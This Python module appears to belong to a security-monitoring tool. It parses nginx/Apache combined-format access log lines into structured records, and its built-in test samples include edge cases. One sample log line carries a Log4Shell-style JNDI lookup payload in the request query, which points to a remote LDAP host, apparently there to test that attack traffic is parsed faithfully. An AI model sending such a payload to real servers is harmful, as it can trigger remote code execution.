"""Web server access logs in the combined format (nginx; Apache writes the same)."""

from __future__ import annotations

import re
from collections.abc import Mapping
from datetime import UTC, datetime, timedelta, timezone
from typing import Final

from lionrock.events.records import LogRecord, LogSource, Sample, Source
from lionrock.kernel.clock import Instant
from lionrock.kernel.errors import InputError
from lionrock.kernel.text import Text
from lionrock.telemetry.lines import lines, utf8

ID: Final = "nginx.access"
_QUOTED: Final = r'"([^"\\]*(?:\\.[^"\\]*)*)"'
_LINE: Final = re.compile(
    r"(\S{1,255}) \S+ (.*?) \[(\d\d/[A-Z][a-z]{2}/\d{4}:\d\d:\d\d:\d\d [+-]\d{4})\] "
    + _QUOTED
    + r" (\d{3}) (\d+|-)(?: "
    + _QUOTED
    + " "
    + _QUOTED
    + r")?(?: .*)?\Z",
    re.DOTALL,
)
_MONTHS: Final = "JanFebMarAprMayJunJulAugSepOctNovDec"
_LOGSOURCE: Final = LogSource(product=None, category="webserver", service="nginx")


def _claims(name: str, head: bytes) -> bool:
    """Say whether the first line has the combined form."""
    first = next((line for line in lines(head) if line.strip()), b"")
    return _LINE.match(first.decode(errors="replace")) is not None


def parse(raw: bytes, settings: Mapping[str, str]) -> LogRecord:
    """Return the record of one line; raises InputError.

    The stream's setting `host` names the server, which the line does not. `cs-uri-query` is the whole request
    target, as most rules for web servers expect.
    """
    found = _LINE.match(utf8(raw))
    if found is None:
        raise InputError(
            Text("not a line of the combined format", "不是 combined 格式的行"),
            Text("Set `log_format combined` for this access log.", "請為此存取日誌設定 `log_format combined`。"),
        )
    address, user, time, request, status, size, referer, agent = found.groups()
    method, target, version = _request(request)
    fields = {
        "c-ip": address,
        "cs-username": None if user == "-" else user,
        "cs-method": method,
        "cs-uri": target,
        "cs-uri-stem": target.partition("?")[0],
        "cs-uri-query": target,
        "cs-version": version,
        "sc-status": int(status),
        "sc-bytes": None if size == "-" else int(size),
        "cs-referer": None if referer == "-" else referer,
        "cs-user-agent": None if agent == "-" else agent,
    }
    return LogRecord(
        source=ID,
        logsource=_LOGSOURCE,
        ocsf=4002,
        time=_time(time),
        time_text=time,
        host=settings.get("host") or None,
        user=None if user == "-" else user,
        address=address,
        message=f"{request} {status}"[:300],
        fields=fields,
        raw=raw,
    )


def _request(request: str) -> tuple[str, str, str]:
    """Return method, target and version of a request line; a line that is no request is all target."""
    parts = request.split(" ")
    if len(parts) >= 3 and parts[-1].startswith("HTTP/"):  # noqa: PLR2004 method, target, version
        return parts[0], " ".join(parts[1:-1]), parts[-1]
    return "", request, ""


def _time(text: str) -> Instant | None:
    """Return the instant of `22/Nov/2026:18:30:01 +0800`, None when there is no such day."""
    try:
        hour, minute, second = (int(part) for part in text[12:20].split(":"))
        month = _MONTHS.index(text[3:6]) // 3 + 1
        offset = timedelta(hours=int(text[22:24]), minutes=int(text[24:26]))
        place = timezone(-offset if text[21] == "-" else offset)
        return datetime(int(text[7:11]), month, int(text[:2]), hour, minute, second, tzinfo=place).astimezone(UTC)
    except (ValueError, OverflowError):
        return None


_SAMPLES = (
    Sample(
        raw=(
            b'203.0.113.9 - - [22/Nov/2026:18:30:01 +0800] "GET /login?next=${jndi:ldap://203.0.113.9/a} HTTP/1.1" 404 '
            b'162 "-" "curl/8.5.0"'
        ),
        expect={
            "time": "2026-11-22T10:30:01+00:00",
            "host": None,
            "address": "203.0.113.9",
            "ocsf": 4002,
            "logsource": (None, "webserver", "nginx"),
            "fields": {
                "cs-method": "GET",
                "cs-uri-stem": "/login",
                "cs-uri-query": "/login?next=${jndi:ldap://203.0.113.9/a}",
                "sc-status": 404,
                "cs-referer": None,
                "cs-user-agent": "curl/8.5.0",
            },
        },
    ),
    Sample(
        raw=(
            b'198.51.100.4 - meter ops [22/Nov/2026:18:30:02 +0800] "POST /api HTTP/2.0" 200 5 '
            b'"https://portal.example/\\x22x" "Mozilla/5.0 (X11)" "203.0.113.7" 0.004'
        ),
        expect={"user": "meter ops", "fields": {"cs-referer": "https://portal.example/\\x22x"}},
    ),
    Sample(
        raw=b'198.51.100.4 - - [22/Nov/2026:18:30:02 +0800] "\\x16\\x03\\x01\\x02\\x00" 400 150 "-" "-"',
        expect={"fields": {"cs-method": "", "cs-uri": "\\x16\\x03\\x01\\x02\\x00", "cs-user-agent": None}},
    ),
    Sample(
        raw=b'198.51.100.4 - - [31/Feb/2026:18:30:02 +0800] "GET / HTTP/1.1" 200 150 "-" "-"',
        expect={"time": None, "time_text": "31/Feb/2026:18:30:02 +0800"},
    ),
)

NGINX_ACCESS = Source(
    id=ID,
    title=Text("Web server access log (nginx, Apache)", "網頁伺服器存取日誌（nginx、Apache）"),
    guidance=Text(
        "Follow the access log written as `access_log /var/log/nginx/access.log combined;`. The line does not name "
        "the server: set the stream's host. Behind a proxy, set `real_ip_header`, or every address is the proxy's.",
        "監察以 `access_log /var/log/nginx/access.log combined;` 寫入的存取日誌。日誌行沒有伺服器名稱：請設定資料流的"
        "主機。如在代理伺服器之後，請設定 `real_ip_header`，否則所有位址均為代理伺服器的位址。",
    ),
    claims=_claims,
    split=lines,
    parse=parse,
    samples=_SAMPLES,
)
